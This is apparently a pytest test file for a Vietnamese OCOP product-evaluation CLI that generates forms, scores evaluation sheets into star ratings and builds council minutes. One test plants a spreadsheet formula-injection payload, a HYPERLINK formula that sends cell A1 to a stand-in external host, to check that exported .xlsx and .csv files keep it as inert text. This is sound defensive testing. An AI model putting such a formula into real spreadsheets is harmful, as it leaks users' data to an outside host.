"""The ``form`` and ``score`` commands as an officer uses them: files in, files and messages out."""
from __future__ import annotations

from decimal import Decimal
from pathlib import Path

from click.testing import CliRunner
from openpyxl import load_workbook
from testpaths import SAMPLES

from ocop_docs.cli import main
from ocop_docs.io.tables import read_products

SHEETS = sorted(str(p) for p in (SAMPLES / "forms").glob("phieu-cam-vu-quang-*.yaml"))


def run(*args):
    return CliRunner().invoke(main, list(map(str, args)))


def test_form_blank_and_filled(tmp_path):
    result = run("form", "mau-01", "--blank", "-o", tmp_path / "trang.docx")
    assert result.exit_code == 0 and "Đã ghi" in result.output and (tmp_path / "trang.docx").is_file()
    result = run("form", "mau-01", SAMPLES / "forms" / "mau-01-cam-vu-quang.yaml", "-o", tmp_path / "cam.docx")
    assert result.exit_code == 0, result.output


def test_form_errors_are_vietnamese_with_exit_code_2(tmp_path):
    result = run("form", "phieu-danh-gia", "-o", tmp_path / "x.docx")
    assert result.exit_code == 2 and "cần --bo (số bộ tiêu chí 1–26)" in result.output
    result = run("form", "phieu-danh-gia", "--bo", "27", "-o", tmp_path / "x.docx")
    assert result.exit_code == 2 and "không có bộ tiêu chí số '27'" in result.output
    result = run("form", "bien-ban", "--blank", "-o", tmp_path / "x.docx")
    assert result.exit_code == 2 and "'bien-ban' không có mẫu trắng" in result.output
    result = run("form", "mau-01", SAMPLES / "forms" / "mau-02-cam-vu-quang.yaml", "-o", tmp_path / "x.docx")
    assert result.exit_code == 2 and "tệp khai báo kind 'mau-02' nhưng lệnh cần 'mau-01'" in result.output
    assert "Traceback" not in result.output and not (tmp_path / "x.docx").exists()


def test_score_the_sample_sheets(tmp_path):
    result = run("score", *SHEETS, "--bang", tmp_path / "kq.xlsx", "--json", tmp_path / "kq.json")
    assert result.exit_code == 0, result.output
    assert "Trung bình         30,67    18,67    27,00    76,33" in result.output
    assert "Kết quả: hạng 4 sao." in result.output
    assert "Chưa đạt hạng 5 sao vì:\n- điểm trung bình chưa đạt 90 điểm (còn thiếu 13,67 điểm);" in result.output
    (product,) = read_products(tmp_path / "kq.xlsx").products
    assert (product.name, product.score, product.stars) == ("Cam Vũ Quang", Decimal("76.33"), 4)
    assert '"stars": 4' in (tmp_path / "kq.json").read_text(encoding="utf-8")


def test_score_an_excel_sheet_made_by_form(tmp_path):
    xlsx = tmp_path / "phieu.xlsx"
    assert run("form", "phieu-danh-gia", "--bo", "1", "-o", xlsx).exit_code == 0
    wb = load_workbook(xlsx)
    ws = wb.active
    labels = {row[0].value: row[0].row for row in ws.iter_rows() if row[0].value}
    ws.cell(labels["Tên sản phẩm"], 2).value = "Cam Vũ Quang"
    ws.cell(labels["Tên chủ thể sản xuất"], 2).value = "Hợp tác xã Nông nghiệp Cam Vũ Quang"
    ws.cell(labels["Người đánh giá"], 2).value = "Nguyễn Văn An"
    best = {}
    for row in ws.iter_rows():
        code, number, points = row[0].value, row[1].value, row[3].value
        if number is not None and isinstance(number, int):
            if code not in best or points >= best[code][1]:
                best[code] = (row, points)
    for row, _ in best.values():
        row[5].value = "x"
    wb.save(xlsx)
    result = run("score", xlsx)
    assert result.exit_code == 0, result.output
    assert "Nguyễn Văn An" in result.output and "Kết quả: hạng 5 sao." in result.output


def test_score_a_malformed_sheet(tmp_path):
    text = (SAMPLES / "forms" / "phieu-cam-vu-quang-an.yaml").read_text(encoding="utf-8")
    bad = tmp_path / "bad.yaml"
    bad.write_text(text.replace('"1.1": 3', '"1.1": [1, 3]').replace('"12": 2', '"12.5": 2'), encoding="utf-8")
    result = run("score", bad)
    assert result.exit_code == 2
    assert "tiêu chí 1.1 (Nguồn gốc sản phẩm) có 2 ô được đánh dấu (ô 1 và ô 3)" in result.output
    assert "không có tiêu chí '12.5' trong bộ 1" in result.output
    assert "tiêu chí 12 (CƠ HỘI THỊ TRƯỜNG TOÀN CẦU) chưa được đánh dấu ô nào" in result.output


def test_score_table_never_carries_a_formula_and_csv_reads_in_vietnamese_excel(tmp_path):
    """A product name typed as a formula in the sheets stays text in --bang (.xlsx and .csv)."""
    evil = '=HYPERLINK("http://x.invalid/?"&A1,"Bấm vào đây")'
    sheets = []
    for path in SHEETS:
        text = Path(path).read_text(encoding="utf-8").replace("name: Cam Vũ Quang", f"name: '{evil}'")
        sheets.append(tmp_path / Path(path).name)
        sheets[-1].write_text(text, encoding="utf-8")
    result = run("score", *sheets, "--bang", tmp_path / "kq.xlsx")
    assert result.exit_code == 0, result.output
    import zipfile

    with zipfile.ZipFile(tmp_path / "kq.xlsx") as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"HYPERLINK" in sheet_xml  # present as text only
    ws = load_workbook(tmp_path / "kq.xlsx").active
    assert (ws["B2"].value, ws["B2"].data_type, ws["B2"].quotePrefix) == (evil, "s", True)
    assert (ws["F2"].value, ws["F2"].number_format) == (76.33, "0.00")
    result = run("score", *sheets, "--bang", tmp_path / "kq.csv")
    assert result.exit_code == 0, result.output
    raw = (tmp_path / "kq.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.decode("utf-8-sig").splitlines()[0] == (
        "STT;Tên sản phẩm;Chủ thể;Địa chỉ;Bộ sản phẩm;Điểm trung bình;Hạng sao;Mã số sản phẩm;Ngày đánh giá")
    import csv
    import io

    cells = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))[1]
    assert cells[1].startswith("'=HYPERLINK(") and cells[5] == "76,33" and cells[6] == "4"
    assert cells[8].count("/") == 2  # dd/mm/yyyy


def test_minutes_with_members_from_a_sheet_say_what_was_not_used(tmp_path):
    """``form bien-ban`` with ``members_file``: members from the sheet, unused column and footer reported."""
    import yaml
    from docx import Document
    from openpyxl import Workbook

    data = yaml.safe_load((SAMPLES / "forms" / "bien-ban-hoi-dong-ha-tinh.yaml").read_text(encoding="utf-8"))
    del data["members"]
    data["members_file"] = "co-mat.xlsx"
    data["sheets"] = [str(SAMPLES / "forms" / Path(s).name) for s in data["sheets"]]
    wb = Workbook()
    ws = wb.active
    ws.title = "Có mặt"
    ws.append(["STT", "Họ tên", "Chức vụ, đơn vị công tác", "Chức danh HĐ", "Ký tên"])
    ws.append([1, "Phan Đình Khánh", "Phó Chủ tịch UBND tỉnh", "Chủ tịch HĐ", None])
    ws.append([2, "Trần Văn Bình", "Chi cục trưởng Chi cục Phát triển nông thôn", "Thư ký HĐ", None])
    ws.append(["Tổng cộng: 02 người"])
    wb.save(tmp_path / "co-mat.xlsx")
    spec = tmp_path / "bien-ban.yaml"
    spec.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    result = run("form", "bien-ban", spec, "-o", tmp_path / "bb.docx")
    assert result.exit_code == 0, result.output
    assert "Lưu ý: co-mat.xlsx, trang 'Có mặt': các cột không dùng (dữ liệu trong đó không được đưa vào văn bản): E «Ký tên»" in result.output
    assert "Lưu ý: co-mat.xlsx, trang 'Có mặt': bỏ qua 1 dòng cuối bảng (tổng cộng, chữ ký): dòng 4 «Tổng cộng: 02 người»" in result.output
    document = Document(tmp_path / "bb.docx")
    text = "\n".join([p.text for p in document.paragraphs] + [c.text for t in document.tables for r in t.rows for c in r.cells])
    assert "Phan Đình Khánh" in text and "Trần Văn Bình" in text
